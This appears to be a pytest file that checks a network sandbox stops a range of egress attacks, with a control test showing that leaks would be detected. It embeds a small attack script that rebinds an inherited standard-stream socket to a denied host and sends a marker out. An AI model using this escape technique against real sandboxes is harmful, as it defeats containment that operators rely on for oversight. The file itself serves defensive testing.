"""Ways out, one test for each: see tests/support/netattacks.py. All of them run in one sandbox for each mode and user.

What matters is what arrived outside, not what the attack believes; the last test shows that arrivals would be seen.
"""

from __future__ import annotations

import ast
import subprocess

import netattacks
import pytest
from netlab import ALLOWED, ALLOWED6, DENIED, DENIED6, USERS
from netsandbox import Sandbox

ATTACKS = netattacks.ATTACKS
WAYS = [(mode, user, "bwrap") for mode in ("slirp", "gateway") for user in USERS]
WAYS += [("slirp", "user", "unshare"), ("gateway", "root", "unshare")]


# Inside: connects a standard stream's socket to the denied host; where that fails, uses the stream for what it is for.
ANEW = """
import ctypes, os, socket, struct, sys
stream = int(sys.argv[1])
try:
    s = socket.socket(fileno=os.dup(stream))
    ctypes.CDLL(None).connect(s.fileno(), struct.pack('=H14x', 0), 16)
    s.connect(('192.175.48.20', 7))
    s.sendall(b'leak-by-stream')
except OSError:
    os.write(stream or 1, b'got ' + (os.read(0, 100) if stream == 0 else b'a line'))
"""
# On the host: runs a command with a connected TCP socket in place of one stream, and tells what came of it.
GIVE = """
import socket, subprocess, sys
stream = ('stdin', 'stdout', 'stderr')[int(sys.argv[1])]
listener = socket.create_server(('127.0.0.1', 0))
near = socket.create_connection(listener.getsockname())
far, _ = listener.accept()
far.settimeout(5)
far.sendall(b'a line')
far.shutdown(socket.SHUT_WR)
given = {'stdin': subprocess.DEVNULL, 'stdout': subprocess.PIPE, stream: near}
done = subprocess.run(sys.argv[2:], **given)
near.close()
print(done.returncode, done.stdout if stream == 'stdin' else far.recv(1000))
"""


class Attacked:
    """What came of every attack in one sandbox: what each said, and what arrived somewhere outside."""

    def __init__(self, sandbox, allow, attacks):
        self.mark = f"leak{sandbox.mode}{sandbox.user}{sandbox.backend}{len(allow)}x"
        outcome = sandbox.run(allow, ["/usr/bin/python3", "netattacks.py", self.mark, *attacks])
        assert outcome.status == 0, outcome.err
        assert not outcome.failures
        self.order = list(attacks)
        self.said = {name: [] for name in attacks}
        for line in outcome.out.splitlines():
            name, said = line.split("\t", 1)
            self.said[name].append(ast.literal_eval(said))
        self.lab = sandbox.lab

    def arrived(self, name):
        """Return what reached a service other than the allowed host's, or any name server."""
        mark = f"{self.mark}{self.order.index(name):02}"
        seen = [line for line in self.lab.seen_file.read_text().splitlines() if mark in line]
        asked = [log for log in (self.lab.provider_log, self.lab.attacker_log) if mark in log.read_text()]
        return [line for line in seen if line.split()[-1] not in (ALLOWED, ALLOWED6)] + asked


@pytest.fixture(scope="module", params=WAYS, ids=["-".join(way) for way in WAYS])
def attacked(lab, request):
    mode, user, backend = request.param
    return Attacked(Sandbox(lab, user, mode, backend), ["allowed.test"], ATTACKS)


@pytest.mark.parametrize("name", ATTACKS)
def test_no_way_out(attacked, name):
    said = attacked.said[name]
    assert said[-1:] == ["DONE"], said
    assert said == ["DONE"], said
    assert attacked.arrived(name) == []


def test_what_gets_out_is_seen(lab):
    """The same attacks where the denied host is allowed: most of them arrive, so the test above can tell."""
    names = ["an_answer_to_a_packet_from_a_foreign_source", "the_socket_that_reached_an_allowed_host", "fragments",
             "data_in_the_first_packet", "a_flood_of_questions_to_the_judge"]  # fmt: skip
    attacked = Attacked(Sandbox(lab, "user", "slirp"), ["allowed.test", DENIED, DENIED6], names)
    for name in names:
        assert attacked.arrived(name), (name, attacked.said[name])


@pytest.mark.parametrize("stream", [0, 1, 2])
@pytest.mark.parametrize("user", USERS)
def test_a_socket_as_a_standard_stream_cannot_be_connected_anew(lab, user, stream):
    """A socket stays in the network where it was made, whoever holds it: the host's."""
    command = lab.command(["allowed.test"], ["python3", "-c", ANEW, str(stream)], user=user, mode="auto")
    prefix = lab.prefix(lab.host)
    full = [*prefix, "python3", "-c", GIVE, str(stream), *command[len(prefix) :]]
    done = subprocess.run(full, capture_output=True, text=True, timeout=240)
    assert done.stdout == "0 b'got a line'\n", done.stderr
    assert "leak-by-stream" not in lab.seen_file.read_text()
